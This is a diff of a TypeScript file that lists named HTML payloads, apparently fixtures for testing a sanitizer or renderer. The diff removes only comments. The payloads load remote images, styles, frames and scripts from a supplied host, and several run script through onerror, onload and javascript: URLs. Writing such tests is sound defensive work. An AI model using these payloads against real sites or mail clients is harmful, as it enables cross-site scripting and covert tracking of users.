@@ -4,7 +4,6 @@ export interface Attack {
   readonly html: (host: string) => string
 }
 
-/** Attacks by name. */
 const attacksOf = (messages: (host: string) => Readonly<Record<string, string>>): readonly Attack[] =>
   Object.keys(messages('')).map((name) => ({ name, html: (host) => messages(host)[name] ?? '' }))
 
@@ -13,7 +12,6 @@ const run = "self.owned=1;top.owned=1;parent.document.title='owned';document.tit
 
 /** Messages that load or run something by themselves: tracking and scripts. */
 export const loadingAttacks = attacksOf((host) => ({
-  // Pictures.
   'img src': `<img src="${host}/1.png">`,
   'img src without quotes and scheme': `<img src=${host.replace('http:', '')}/2.png>`,
   'img srcset': `<img srcset="${host}/3.png 1x, ${host}/3b.png 2x">`,
@@ -22,14 +20,12 @@ export const loadingAttacks = attacksOf((host) => ({
   'image, the old name of img': `<image src="${host}/6.png">`,
   'lowsrc and dynsrc': `<img lowsrc="${host}/7.png" dynsrc="${host}/7.mp4">`,
   'a tracking pixel': `<img src="${host}/8.gif?player=1" width="1" height="1" loading="eager">`,
-  // Backgrounds.
   'body background': `<body background="${host}/9.png">`,
   'table and cell background': `<table background="${host}/10.png"><td background="${host}/10b.png">x`,
   'style attribute': `<p style="background-image:url(${host}/11.png)">x</p>`,
   'style attribute with escapes': `<p style="background:\\75\\72\\6c('${host}/12.png')">x</p>`,
   'style attribute with image-set': `<p style='background:image-set("${host}/13.png" 1x)'>x</p>`,
   'style attribute with a variable': `<p style="--a:url(${host}/14.png);background:var(--a)">x</p>`,
-  // Styles.
   'style @import with a string': `<style>@import "${host}/15.css";</style>`,
   'style @import with url()': `<style>@import url(${host}/16.css) screen;</style>`,
   'style background': `<style>body{background:url("${host}/17.png")}</style>`,
@@ -42,25 +38,21 @@ export const loadingAttacks = attacksOf((host) => ({
   'link hints': ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'icon', 'modulepreload']
     .map((rel) => `<link rel="${rel}" as="image" href="${host}/23.png">`)
     .join(''),
-  // Media.
   'video poster and src': `<video autoplay muted poster="${host}/24.png" src="${host}/24.mp4"></video>`,
   'video source and track': `<video autoplay><source src="${host}/25.mp4"><track default src="${host}/25.vtt"></video>`,
   audio: `<audio autoplay src="${host}/26.mp3"></audio><bgsound src="${host}/26.mid">`,
-  // Drawings.
   'svg image': `<svg><image href="${host}/27.png" xlink:href="${host}/27b.png" width="9" height="9"/></svg>`,
   'svg use': `<svg><use href="${host}/28.svg#a"/></svg>`,
   'svg filter': `<svg><filter id="a"><feImage href="${host}/29.png"/></filter><rect filter="url(#a)" width="9" height="9"/></svg>`,
   'svg paints': `<svg><rect fill="url(${host}/30.svg#a)" mask="url('${host}/30.svg#b')" width="9" height="9"/></svg>`,
   'svg script and onload': `<svg onload="${run}"><script href="${host}/31.js"></script></svg>`,
   'svg animation': `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="9">x</text></a></svg>`,
-  // Frames.
   iframe: `<iframe src="${host}/32"></iframe>`,
   'iframe srcdoc': `<iframe srcdoc="<script>${run}</script><img src=${host}/33.png>"></iframe>`,
   'object and embed': `<object data="${host}/34"></object><embed src="${host}/34b"><applet code="${host}/34c"></applet>`,
   frameset: `<frameset><frame src="${host}/35"></frameset>`,
   'meta refresh': `<meta http-equiv="refresh" content="0;url=${host}/36">`,
   base: `<base href="${host}/"><img src="37.png"><a href="37">x</a>`,
-  // Scripts.
   script: `<script>${run}</script><script src="${host}/38.js"></script><script type="module">import "${host}/38m.js"</script>`,
   handlers: `<img src=x onerror="${run}"><body onload="${run}"><details open ontoggle="${run}">x</details><marquee onstart="${run}">x</marquee>`,
   'noscript and template': `<noscript><img src="${host}/39.png"></noscript><template><img src="${host}/39b.png" onerror="${run}"></template>`,
